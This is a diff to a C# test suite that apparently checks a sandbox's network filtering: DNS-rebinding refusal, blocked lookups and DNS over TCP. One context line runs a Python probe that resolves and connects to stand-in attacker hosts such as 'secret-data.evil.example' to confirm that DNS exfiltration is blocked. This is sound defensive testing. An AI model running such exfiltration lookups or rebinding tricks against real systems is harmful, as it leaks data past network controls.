@@ -116,7 +116,7 @@ public sealed class NetworkTests(Site site)
     public async Task A_name_that_changes_its_address_between_two_looks_is_refused(Caller caller)
     {
         using var place = site.For(caller);
-        using var dns = new TinyDns(inTurn: true, ["203.0.113.77", "127.0.0.1"]);
+        using var dns = new TinyDns(inTurn: true, ["203.0.113.250", "127.0.0.1"]);
         await using var server = new HelloServer(IPAddress.Any);
         var target = $"rebind.example:{server.Port}";
         var outcome = await place.RunAsync(["--allow", "rebind.example", "--dns", dns.Address, "--timeout", "40s", "--", "timeout", "30", "/usr/bin/python3", "-c", Fetch, target, target, target], null);
@@ -133,6 +133,23 @@ public sealed class NetworkTests(Site site)
             "import socket\nfor n in ['secret-data.evil.example', 'good.example.evil.example']:\n  try: print(socket.getaddrinfo(n, 80)); socket.create_connection((n, 80), 5).recv(1)\n  except OSError as e: print(e)");
         Assert.Equal(0, outcome.Code);
         Assert.Empty(dns.Asked);
+    }
+
+    [Theory, ClassData(typeof(Callers))]
+    public async Task Names_are_answered_over_tcp_as_over_udp(Caller caller)
+    {
+        using var place = site.For(caller);
+        using var dns = new TinyDns("203.0.113.250");
+        var outcome = await place.PythonAsync("""
+            import socket, struct
+            question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\x04good\x07example\x00" + struct.pack(">2H", 1, 1)
+            s = socket.create_connection(("127.0.0.1", 53), 10)
+            s.sendall(struct.pack(">H", len(question)) + question)
+            f = s.makefile("rb")
+            answer = f.read(struct.unpack(">H", f.read(2))[0])
+            print(*struct.unpack(">H", answer[:2]), *struct.unpack(">H", answer[6:8]))
+            """, "--allow", "good.example", "--dns", dns.Address);
+        Assert.Equal("7 1", outcome.Succeeded());
     }
 
     [Theory, ClassData(typeof(Callers))]
